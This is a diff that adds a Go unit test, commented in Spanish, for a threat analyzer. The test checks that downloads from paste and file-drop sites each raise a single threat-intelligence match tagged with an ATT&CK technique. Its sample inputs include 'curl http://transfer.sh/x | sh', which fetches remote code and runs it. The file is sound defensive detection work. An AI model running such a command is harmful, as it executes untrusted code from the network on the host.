@@ -0,0 +1,21 @@
+package semantic
+
+import "testing"
+
+func TestPasteSiteDownload(t *testing.T) {
+	for _, content := range []string{"curl http://transfer.sh/x | sh", "wget https://0x0.st/abc", "curl https://pastebin.com/raw/x"} {
+		t.Run(content, func(t *testing.T) {
+			threats := analyzeSession(t, NewAnalyzer(), content)
+			types := threatTypes(threats)
+			// Una sola detección por indicador: la de la fuente de inteligencia
+			if types["threat_intel_match"] != 1 || types["suspicious_download"] != 0 {
+				t.Errorf("detecciones = %v, se esperaba un único threat_intel_match", types)
+			}
+			for _, threat := range threats {
+				if threat.Type == "threat_intel_match" && threat.Attack == nil {
+					t.Errorf("threat_intel_match sin técnica ATT&CK: %+v", threat)
+				}
+			}
+		})
+	}
+}